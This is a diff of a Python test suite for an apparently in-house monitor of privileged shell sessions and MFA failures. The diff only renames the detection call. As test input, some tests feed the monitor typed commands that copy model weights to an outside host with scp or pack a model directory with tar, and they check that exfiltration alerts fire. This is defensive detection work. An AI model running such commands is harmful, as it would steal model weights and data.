@@ -242,11 +242,11 @@ def alert_rows(app: App) -> list[tuple[Any, ...]]:
 def test_detection_starts_now_resumes_from_its_cursor_and_never_judges_twice(app: App) -> None:
     for _ in range(6):  # before detection ever ran: history, not judged
         record(app, "mfa.verify", "alice", T0, outcome="refused", details={"reason": "wrong code"})
-    assert app.detect(T0).alerts == []
+    assert app.detection().run(T0).alerts == []
     for i in range(5):
         record(app, "mfa.verify", "bob", T0 + timedelta(seconds=i), outcome="refused",
                details={"reason": "wrong code", "sid": "S-1"})  # fmt: skip
-    report = app.detect(T0 + timedelta(seconds=10))
+    report = app.detection().run(T0 + timedelta(seconds=10))
     assert len(report.alerts) == 1
     assert alert_rows(app) == [("mfa-failures", "bob", None, None, '["alert", "lock_mfa"]')]
     conn = app.ready_store().conn
@@ -259,16 +259,16 @@ def test_detection_starts_now_resumes_from_its_cursor_and_never_judges_twice(app
     # A restart (a new process) resumes after the last judged event, with its memory.
     app.close()
     again = App(app.settings)
-    assert again.detect(T0 + timedelta(seconds=20)).alerts == []
+    assert again.detection().run(T0 + timedelta(seconds=20)).alerts == []
     record(again, "mfa.verify", "bob", T0 + timedelta(seconds=30), outcome="refused",
            details={"reason": "wrong code"})  # fmt: skip
-    assert again.detect(T0 + timedelta(seconds=31)).alerts == []  # cooling down, not again
+    assert again.detection().run(T0 + timedelta(seconds=31)).alerts == []  # cooling down, not again
     assert len(alert_rows(again)) == 1
     again.close()
 
 
 def test_session_bytes_are_read_once_and_matches_name_the_session(app: App) -> None:
-    app.detect(T0)  # detection begins
+    app.detection().run(T0)  # detection begins
     root = app.settings.session_store
     path = write_recording(
         root,
@@ -279,29 +279,29 @@ def test_session_bytes_are_read_once_and_matches_name_the_session(app: App) -> N
     )
     store = app.ready_store()
     Indexer(store, str(root)).run(T0 + timedelta(seconds=1))
-    first = app.detect(T0 + timedelta(seconds=2))
+    first = app.detection().run(T0 + timedelta(seconds=2))
     assert first.alerts == [] and first.recordings == 1 and first.bytes > 0
     # More typed later: only the new bytes are read, and the match names the session.
     with open(path / "ttyin", "ab") as f:
         f.write(b"scp /data/checkpoints/model.pt x@elsewhere:\r")
-    second = app.detect(T0 + timedelta(seconds=3))
+    second = app.detection().run(T0 + timedelta(seconds=3))
     assert second.bytes == len(b"scp /data/checkpoints/model.pt x@elsewhere:\r")
     assert alert_rows(app) == [
         ("exfiltration", "alice", "gpu01", "000001", '["alert", "revoke_grants", "end_session"]')
     ]
     kinds = store.conn.execute("SELECT kind, target FROM alert_actions ORDER BY id").fetchall()
     assert kinds == [("revoke_grants", "alice"), ("end_session", "gpu01:break-glass")]
-    assert app.detect(T0 + timedelta(seconds=4)).bytes == 0
+    assert app.detection().run(T0 + timedelta(seconds=4)).bytes == 0
 
 
 def test_drift_jobs_follow_grant_pushes_and_recorded_sessions(app: App) -> None:
-    app.detect(T0)
+    app.detection().run(T0)
     record(app, "grant.push", "g0123456789abcdef", T0, actor="broker",
            details={"live": "gpu[01-02]", "failed": {}})  # fmt: skip
     record(app, "session.recorded", "000002", T0, actor="node:gpu01",
            details={"grant": "g0123456789abcdef", "user": "alice"})  # fmt: skip
     record(app, "session.recorded", "000003", T0, actor="node:gpu01", details={"grant": None})
-    assert app.detect(T0 + timedelta(seconds=1)).jobs == 3
+    assert app.detection().run(T0 + timedelta(seconds=1)).jobs == 3
     jobs = (
         app.ready_store()
         .conn.execute("SELECT kind, target, alert_id FROM alert_actions ORDER BY id")
@@ -370,32 +370,32 @@ def test_padding_a_line_does_not_hide_its_head() -> None:
 
 
 def test_a_pass_after_elevations_prunes_its_memory_and_moves_on(app: App) -> None:
-    app.detect(T0)
+    app.detection().run(T0)
     record(app, "grant.issue", "g1", T0, details={"user": "alice", "nodes": "gpu[01-02]"})
     record(app, "session.open", "g1", T0, actor="node:gpu01",
            details={"user": "alice", "tty": "pts/1", "pid": 42})  # fmt: skip
-    first = app.detect(T0 + timedelta(seconds=1))
+    first = app.detection().run(T0 + timedelta(seconds=1))
     assert first.events >= 2
     # Hours later the windows are pruned; detection goes on from its cursor.
     record(app, "session.open", "g1", T0 + timedelta(hours=5), actor="node:gpu02",
            details={"user": "alice", "tty": "pts/2", "pid": 43})  # fmt: skip
-    later = app.detect(T0 + timedelta(hours=5, seconds=1))
+    later = app.detection().run(T0 + timedelta(hours=5, seconds=1))
     assert later.events >= 1
-    assert app.detect(T0 + timedelta(hours=5, seconds=2)).events == 0
+    assert app.detection().run(T0 + timedelta(hours=5, seconds=2)).events == 0
 
 
 def test_a_session_the_indexer_gave_up_on_is_still_watched(app: App) -> None:
-    app.detect(T0)
+    app.detection().run(T0)
     root = app.settings.session_store
     path = write_recording(root, "000009", [("ttyin", 0.5, b"ls\r")],
                            log=log_json(user="dave", node="gpu02"), complete=False)  # fmt: skip
     store = app.ready_store()
     Indexer(store, str(root)).run(T0 + timedelta(seconds=1))
-    app.detect(T0 + timedelta(seconds=2))
+    app.detection().run(T0 + timedelta(seconds=2))
     with store.transaction() as conn:  # as the indexer marks an idle break-glass shell
         conn.execute("UPDATE recordings SET state = 'incomplete' WHERE id = '000009'")
-    app.detect(T0 + timedelta(minutes=10))  # read to its end, but not forgotten
+    app.detection().run(T0 + timedelta(minutes=10))  # read to its end, but not forgotten
     with open(path / "ttyin", "ab") as f:
         f.write(b"tar czf /tmp/m.tgz /models/llama\r")
-    app.detect(T0 + timedelta(minutes=30))
+    app.detection().run(T0 + timedelta(minutes=30))
     assert [r[0] for r in alert_rows(app)] == ["exfiltration"]
